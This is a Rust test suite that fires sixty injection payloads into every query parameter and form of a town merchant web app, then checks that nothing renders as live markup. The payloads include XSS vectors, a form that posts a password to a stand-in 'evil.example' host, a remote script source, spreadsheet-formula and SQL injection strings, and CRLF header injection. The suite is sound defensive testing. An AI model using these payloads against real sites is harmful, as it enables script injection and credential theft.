//! Text that wants to be code stays text: sixty payloads in every field of every form and every query, read back the way a browser reads it.

use crate::town::{Browser, Town};
use rules::permits::Role;
use scraper::{ElementRef, Html, Selector};
use std::collections::BTreeSet;

const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><script>alert(1)</script-->",
    "--><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "\" style=\"background:url(//evil.example)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    "/\\evil.example",
    "https:evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{ $who }",
    "=cmd|'/c calc'!A1",
    "\u{202e}<script>alert(1)</script>",
    "\0<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "' OR '1'='1' --",
    "\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
];

/// Everything on a page that a payload could have made of itself.
fn alive(page: &str) -> Vec<String> {
    let document = Html::parse_document(page);
    document.root_element().descendent_elements().flat_map(|element| of_element(&element)).collect()
}

fn of_element(element: &ElementRef<'_>) -> Vec<String> {
    let value = element.value();
    let mut found = Vec::new();
    let foreign = |url: &str| {
        let plain: String = url.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect::<String>().to_lowercase();
        ["javascript:", "vbscript:", "data:text", "//", "/\\"].iter().any(|scheme| plain.starts_with(scheme))
            || (plain.contains("evil.example") && !plain.starts_with('/'))
    };
    if value.name() == "script" && !value.attr("src").is_some_and(|src| src.starts_with('/') && !src.starts_with("//")) {
        found.push("a script of its own".to_owned());
    }
    if matches!(value.name(), "iframe" | "object" | "embed" | "base" | "style" | "marquee" | "math" | "noscript" | "template") {
        found.push(format!("<{}>", value.name()));
    }
    for (name, text) in value.attrs() {
        if name.starts_with("on") || name == "style" || name == "http-equiv" || name == "srcdoc" {
            found.push(format!("{name} on <{}>", value.name()));
        }
        let address = matches!(name, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "poster");
        if address && foreign(text) {
            found.push(format!("{name}={text}"));
        }
    }
    found
}

#[test]
fn the_control_every_living_payload_would_be_seen() {
    let dead = ["&", "{", "$", "%", "\\u", "＜", "=cmd", "' OR", "//", "/\\", "https:", "java", "Java", "JaVa", "\u{1}", "data:", "vbscript"];
    let quotes = ["\" ", "' ", "` ", "<form", "<!--", "<![", "<\0"];
    let planted: Vec<&str> = PAYLOADS.into_iter().filter(|payload| !dead.iter().chain(&quotes).any(|begin| payload.starts_with(begin))).collect();
    assert!(planted.len() > 30);
    for payload in planted {
        assert!(!alive(&format!("<p>{payload}</p>")).is_empty() || payload.starts_with("<a href") || payload.contains("<link"), "{payload}");
    }
    for payload in PAYLOADS.into_iter().filter(|payload| payload.starts_with('"')) {
        assert!(!alive(&format!("<input value=\"{payload}\">")).is_empty(), "{payload}");
    }
    for payload in ["javascript:alert(1)", "java\tscript:alert(1)", "//evil.example/"] {
        assert!(!alive(&format!("<a href=\"{payload}\">x</a>")).is_empty(), "{payload}");
    }
}

/// The forms on a page: where each goes and its fields.
fn forms(page: &str) -> Vec<(String, Vec<String>)> {
    let document = Html::parse_document(page);
    let (form, field) = (Selector::parse("form[action]").expect("a selector"), Selector::parse("[name]").expect("a selector"));
    let of_form = |form: ElementRef<'_>| {
        let names: BTreeSet<String> = form.select(&field).filter_map(|field| field.attr("name").map(ToOwned::to_owned)).collect();
        (form.attr("action").unwrap_or_default().to_owned(), names.into_iter().collect())
    };
    document.select(&form).map(of_form).collect()
}

/// Payloads go into the fields four at a time, each field beginning elsewhere in the list.
fn filled(fields: &[String], round: usize) -> Vec<(String, String)> {
    let text = |at: usize| (0..4).map(|n| PAYLOADS[(round * 4 + at * 7 + n) % PAYLOADS.len()]).collect::<Vec<_>>().join(" ");
    fields.iter().enumerate().map(|(at, name)| (name.clone(), text(at))).collect()
}

async fn tries(browser: &Browser, who: &str) -> usize {
    let mut sent = 0;
    for page in app::ROOMS.iter().flat_map(|room| room.pages).filter(|page| !page.path.contains('{')) {
        let shown = browser.opens(page.path).await;
        assert_eq!(alive(&shown.body), Vec::<String>::new(), "{who}: {} as it is", page.path);
        let names = page.cached.map_or(&["next", "q", "district", "cursor", "before", "tab"][..], |cached| cached.query);
        for round in 0..PAYLOADS.len() / 4 {
            let fields: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
            let query = serde_urlencoded::to_string(filled(&fields, round)).expect("a query");
            let shown = browser.opens(&format!("{}?{query}", page.path)).await;
            assert!(!shown.status.is_server_error(), "{who}: {}?{query}: {}", page.path, shown.status);
            assert_eq!(alive(&shown.body), Vec::<String>::new(), "{who}: {}?{query}", page.path);
        }
        for (action, fields) in forms(&shown.body).into_iter().filter(|(action, _)| action.starts_with("/api/") && !action.ends_with("sign_out")) {
            for round in 0..PAYLOADS.len() / 4 {
                let form = filled(&fields, round);
                let form: Vec<(&str, &str)> = form.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
                let back = browser.sends(&action, &form).await;
                assert!(!back.status.is_server_error(), "{who}: {action}: {} {}", back.status, back.body);
                assert_eq!(alive(&back.body), Vec::<String>::new(), "{who}: {action} refilled");
                assert!(!back.headers.contains_key("evil"), "{who}: {action}");
                sent += 1;
            }
        }
    }
    sent
}

#[tokio::test]
async fn hostile_text_is_only_text() {
    let town = Town::on("2026-11-20T09:00+08:00").await;
    let mut sent = tries(&town.visitor(), "a visitor").await;
    let district = rules::districts::District::Wanda.place();
    for (number, role, place) in [
        ("13800000001", Role::Admin, None),
        ("13800000002", Role::Secretary, None),
        ("13800000003", Role::DistrictOfficer, Some(district)),
        ("13800000004", Role::Auditor, None),
    ] {
        sent += tries(&town.with_role(number, role, place).await, role.code()).await;
    }
    assert!(sent >= 60, "only {sent} forms were tried");
}

#[tokio::test]
async fn an_address_that_leads_nowhere_repeats_nothing() {
    let town = Town::on("2026-11-20T09:00+08:00").await;
    for payload in PAYLOADS {
        let path: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for page in ["", "merchants/", "offers/", "districts/", "member-day/"] {
            let shown = town.visitor().opens(&format!("/{page}{path}")).await;
            assert!(shown.status.is_client_error(), "{payload}: {}", shown.status);
            assert_eq!(alive(&shown.body), Vec::<String>::new(), "{payload}");
        }
    }
}
